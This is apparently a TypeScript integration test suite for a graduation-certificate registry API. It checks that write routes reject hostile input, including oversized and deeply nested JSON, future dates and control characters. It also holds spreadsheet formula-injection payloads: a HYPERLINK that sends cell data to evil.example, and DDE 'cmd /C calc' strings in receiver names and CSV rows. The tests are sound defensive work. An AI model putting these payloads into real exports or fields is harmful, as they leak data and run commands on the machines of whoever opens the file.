import { fixture } from '@so-goc/documents/graduate-lists/testing/fixture-files';
import { startTestSystem, type TestSystem } from '../support/embedded-system';

/**
 * Issue 16, hostile input on a write route over the real HTTP server: each attack gets a problem+json
 * answer with a stable code, never a 500, and records nothing.
 */
interface Problem {
  status: number;
  code: string;
  field?: string;
  fieldProblems?: { field: string; code: string }[];
}

const LOTS = '/api/v1/authorities/SGD-HP/blank-lots';
const lot = {
  lotId: 'HP-2024-THPT-1',
  kind: 'THPT',
  templateVersion: 'TT21-2019',
  prefix: 'HP',
  width: 7,
  from: 200001,
  to: 200100,
  supplier: 'Nhà in Bộ GDĐT',
  deliveryNote: { number: 'PGH-0524', date: '2024-05-20' },
  receivedBy: 'Nguyễn Thị Lan',
  receivedOn: '2024-05-20',
};

describe('hostile input on a write route (issue 16)', () => {
  let t: TestSystem;
  beforeAll(async () => {
    t = await startTestSystem();
    const roles = await t.request('POST', '/api/v1/authorities/SGD-HP/officers/admin-hp/roles', {
      body: { roles: ['administrator', 'registrar'], includeSubordinates: false },
    });
    expect(roles.status).toBe(201);
  });
  afterAll(() => t.stop());

  async function refused(body: string | object, expectedStatus: number): Promise<Problem> {
    const before = (await t.events()).length;
    const answer =
      typeof body === 'string'
        ? await fetch(`${t.api}${LOTS}`, {
            method: 'POST',
            body,
            headers: {
              'content-type': 'application/json',
              authorization: `Bearer ${t.adminToken}`,
              'idempotency-key': crypto.randomUUID(),
            },
          })
        : await t.request('POST', LOTS, { body });
    expect(answer.status).toBe(expectedStatus);
    expect(answer.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    const problem = (await answer.json()) as Problem;
    expect((await t.events()).length).toBe(before);
    return problem;
  }

  it('a JSON body over the limit is 413 problem+json, not 500', async () => {
    const problem = await refused(JSON.stringify({ ...lot, supplier: 'x'.repeat(200_000) }), 413);
    expect(problem).toMatchObject({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
  });

  it('JSON nested 10,000 deep is 400 problem+json (INPUT_TOO_DEEP), not a stack overflow', async () => {
    const deep = `{"a":`.repeat(10_000) + '1' + '}'.repeat(10_000);
    const problem = await refused(JSON.stringify(lot).replace(/}$/, `,"deliveryNote2":${deep}}`), 400);
    expect(problem).toMatchObject({ status: 400, code: 'INPUT_TOO_DEEP' });
  });

  it('malformed JSON is 400 problem+json', async () => {
    const problem = await refused('{"lotId": ', 400);
    expect(problem.code).toBe('MALFORMED_REQUEST');
  });

  it('a receipt dated 9999-12-31 is 400 DATE_IN_FUTURE', async () => {
    const problem = await refused({ ...lot, receivedOn: '9999-12-31' }, 400);
    expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual(['receivedOn DATE_IN_FUTURE']);
  });

  it.each(['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"])(
    'a receiver named %j is 400 FORMULA_TRIGGER',
    async (attack) => {
      const problem = await refused({ ...lot, receivedBy: attack }, 400);
      expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual(['receivedBy FORMULA_TRIGGER']);
    },
  );

  it('a control character in a name is 400 FORBIDDEN_CHARACTERS', async () => {
    const problem = await refused({ ...lot, receivedBy: 'Nguyễn\u0007Lan' }, 400);
    expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual(['receivedBy FORBIDDEN_CHARACTERS']);
  });

  it('a graduate list whose names start like formulas is refused row by row, nothing recorded', async () => {
    const csv = Buffer.from(fixture('graduates-thpt-2024.csv')).toString('utf8').split('\n').slice(0, 4);
    csv[1] = csv[1]?.replace('Lê Đình Quân', '"=HYPERLINK(""http://evil.example"",""Bấm"")"') ?? '';
    csv[2] = csv[2]?.replace('Nguyễn Đức Trí', '@SUM(1+1)') ?? '';
    const form = new FormData();
    for (const [name, value] of Object.entries({
      decisionId: 'sgd-hp-formula-2024',
      number: '98/QĐ-SGDĐT',
      date: '2024-07-20',
      kind: 'THPT',
      schoolYear: '2023-2024',
    }))
      form.append(name, value);
    form.append('file', new Blob([csv.join('\n')]), 'danh-sach.csv');
    const before = (await t.events()).length;
    const answer = await fetch(`${t.api}/api/v1/authorities/SGD-HP/decisions`, {
      method: 'POST',
      body: form,
      headers: { authorization: `Bearer ${t.adminToken}`, 'idempotency-key': crypto.randomUUID() },
    });
    expect(answer.status).toBe(400);
    const problem = (await answer.json()) as Problem;
    expect(problem.code).toBe('GRADUATE_LIST_REJECTED');
    expect(problem.fieldProblems?.map((p) => `${p.field} ${p.code}`)).toEqual([
      'row 2: Họ và tên FORMULA_TRIGGER',
      'row 3: Họ và tên FORMULA_TRIGGER',
    ]);
    expect((await t.events()).length).toBe(before);
  }, 120_000);

  it('the same lot, well formed, is recorded (the refusals above were about the input alone)', async () => {
    expect((await t.request('POST', LOTS, { body: lot })).status).toBe(201);
  });
});
